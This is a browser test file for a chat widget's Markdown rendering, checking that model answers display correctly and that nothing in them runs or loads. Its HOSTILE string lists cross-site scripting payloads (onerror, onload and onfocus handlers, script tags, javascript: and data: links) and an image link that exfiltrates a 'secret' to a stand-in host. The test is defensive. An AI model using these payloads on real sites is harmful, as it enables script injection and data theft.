/** What a model writes, as a browser shows it: every construct of Markdown, and nothing that runs, loads or leads astray. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import type { Browser, Page } from 'playwright-core'
import { bundleWeb, type WebBundle } from '../../src/http/pages/bundle-web.ts'
import { findChromium, launchChromium } from '../support/chromium.ts'

const chromium = findChromium()

describe.skipIf(chromium === undefined)('an answer', () => {
  let browser: Browser
  let bundle: WebBundle
  let page: Page
  let requests: string[]

  beforeAll(async () => {
    bundle = await bundleWeb()
    browser = await launchChromium(chromium ?? '')
    page = await browser.newPage()
    page.setDefaultTimeout(8000)
    requests = []
    await page.route('**/*', async (route) => {
      const url = new URL(route.request().url())
      requests.push(url.href)
      const file = bundle.files.get(url.pathname.replace('/web/', ''))
      if (url.pathname === '/') await route.fulfill({ contentType: 'text/html', body: PAGE(bundle.entries.chat) })
      else if (file !== undefined) await route.fulfill({ contentType: 'text/javascript', body: file })
      else if (url.pathname === '/v1/chat') await route.fulfill({ contentType: 'text/event-stream', body: stream })
      else await route.fulfill({ status: 404, contentType: 'application/problem+json', body: '{}' })
    })
  })
  afterAll(() => browser?.close())

  let stream = ''
  /** The answer's elements, as if the service had let the model's words through as they are. */
  const show = async (answer: string): Promise<ReturnType<Page['locator']>> => {
    const events = [
      ['start', { message_id: 'm1', conversation_id: 'c1' }],
      // In pieces, which end in the middle of everything.
      ...(answer.match(/[\s\S]{1,7}/g) ?? []).map((text) => ['delta', { text }]),
      ['citation', CITATION],
      ['done', { status: 'answered', finish_reason: 'stop', citations: [CITATION] }],
    ]
    stream = events.map(([name, data], n) => `id: ${n + 1}\nevent: ${name}\ndata: ${JSON.stringify(data)}\n\n`).join('')
    await page.goto('http://docs.test/')
    await page.evaluate(() => localStorage.clear())
    await page.evaluate(() => sessionStorage.clear())
    await page.reload()
    await page.getByRole('textbox').fill('What?')
    requests.length = 0
    await page.getByRole('textbox').press('Enter')
    await page.locator('article.turn[data-status="answered"]').waitFor()
    return page.locator('.answer')
  }
  const html = async (answer: string): Promise<string> =>
    (await show(answer)).evaluate((element) =>
      element.innerHTML.replace(/ (dir|class|tabindex|part|rel|role|aria-[a-z]+|title|type)="[^"]*"/g, ''),
    )

  test('is shown with every construct', async () => {
    expect(await html(EVERYTHING)).toBe(EVERYTHING_HTML)
  })

  test('keeps its maths as it was written', async () => {
    expect(await (await show(MATHS)).textContent()).toBe(MATHS)
  })

  test('has code that can be copied, with the name of its language', async () => {
    const answer = await show('```python\nprint("<b>")\n```\n\nand `x < y & z`')
    expect(await answer.locator('figcaption').textContent()).toBe('python')
    expect(await answer.locator('pre code').textContent()).toBe('print("<b>")')
    expect(await answer.getByRole('button', { name: 'Copy code' }).isVisible()).toBeTrue()
    expect(await answer.locator('p code').textContent()).toBe('x < y & z')
  })

  test('has markers where there are citations, and text where there are none', async () => {
    const answer = await show('Known [1], unknown [2], in code `[1]`.')
    expect(await answer.getByRole('button', { name: /^Source/ }).count()).toBe(1)
    expect(await answer.textContent()).toBe('Known 1, unknown [2], in code [1].')
  })

  test('runs nothing, loads nothing and leads nowhere it should not', async () => {
    const answer = await show(HOSTILE)
    await page.waitForTimeout(300)
    expect(await page.evaluate(() => (window as unknown as { pwned?: boolean }).pwned)).toBeUndefined()
    expect(requests.filter((url) => !url.startsWith('http://docs.test/'))).toEqual([])
    expect(await answer.locator('img, script, iframe, svg:not(.icon), form, input, style, object, embed').count()).toBe(
      0,
    )
    const links = await answer
      .locator('a')
      .evaluateAll((all) =>
        all.map((each) => [each.getAttribute('href'), each.getAttribute('rel'), each.getAttribute('target')]),
      )
    expect(links).toEqual([
      ['https://elsewhere.test/?q=secret', 'noopener nofollow', '_blank'],
      ['https://example.org/a?b=1&c=2', 'noopener nofollow', '_blank'],
    ])
    expect(await answer.textContent()).toContain('<img src=x onerror="window.pwned=true">')
  })

  test('is seen on a page that gives the chat no height', async () => {
    await show('Yes [1].')
    expect(await page.locator('lectern-chat').evaluate(({ clientHeight }) => clientHeight)).toBeGreaterThan(400)
    expect(
      await page
        .locator('.scroll')
        .first()
        .evaluate(({ clientHeight }) => clientHeight),
    ).toBeGreaterThan(200)
  })
})

const CITATION = { n: 1, document_id: 'd', chunk_id: 'c', title: 'T', url: null, quote: 'q', start: 0, end: 1 }

const PAGE = (chat: string): string =>
  `<!doctype html><html lang="en"><body><lectern-chat server="/"></lectern-chat><script type="module" src="/web/${chat}"></script></body></html>`

const EVERYTHING = `# One

## Two

Plain *em* **strong** ~~gone~~ a \\* star &amp; &lt;tag&gt; [link](https://example.org/x "t").
next line  
broken line

- a
- b
  1. c
  2. d

3. three
4. four

> quoted
> more

| left | right |
| :--- | ----: |
| 1 | \`a\\|b\` |

---

- [x] done
- [ ] open

[named][n] and https://example.org/bare

[n]: https://example.org/named
`

const EVERYTHING_HTML = [
  '<h4>One</h4>',
  '<h5>Two</h5>',
  '<p>Plain <em>em</em> <strong>strong</strong> <del>gone</del> a * star &amp; &lt;tag&gt; ',
  '<a href="https://example.org/x" target="_blank">link</a>.\nnext line<br>broken line</p>',
  '<ul><li>a</li><li>b<ol start="1"><li>c</li><li>d</li></ol></li></ul>',
  '<ol start="3"><li>three</li><li>four</li></ol>',
  '<blockquote><p>quoted\nmore</p></blockquote>',
  '<div><table><thead><tr><th>left</th><th>right</th></tr></thead>',
  '<tbody><tr><td>1</td><td><code>a|b</code></td></tr></tbody></table></div>',
  '<hr>',
  '<ul><li>☑ done</li><li>☐ open</li></ul>',
  '<p><a href="https://example.org/named" target="_blank">named</a> and ',
  '<a href="https://example.org/bare" target="_blank">https://example.org/bare</a></p>',
].join('')

const MATHS = String.raw`Euler: $e^{i\pi} + 1 = 0$, and $a*b*c$, \(x_1 * y_1 * z\), $$\sum_{i}^{n} a_*$$; it costs $5 or $10.`

const HOSTILE = `<img src=x onerror="window.pwned=true"> <script>window.pwned=true</script>

[x](javascript:window.pwned=true) [y](data:text/html,<script>window.pwned=true</script>) [z](vbscript:x)

![stolen](https://elsewhere.test/?q=secret) [rel](/v1/keys) [anchor](#top) [proto](//elsewhere.test/x)

<iframe src="https://elsewhere.test/"></iframe>

<style>@import 'https://elsewhere.test/x.css'</style>

<svg onload="window.pwned=true"></svg> <form action="https://elsewhere.test"><input autofocus onfocus="window.pwned=true"></form>

[fine](https://example.org/a?b=1&amp;c=2) <a href="javascript:window.pwned=true">a</a>
`
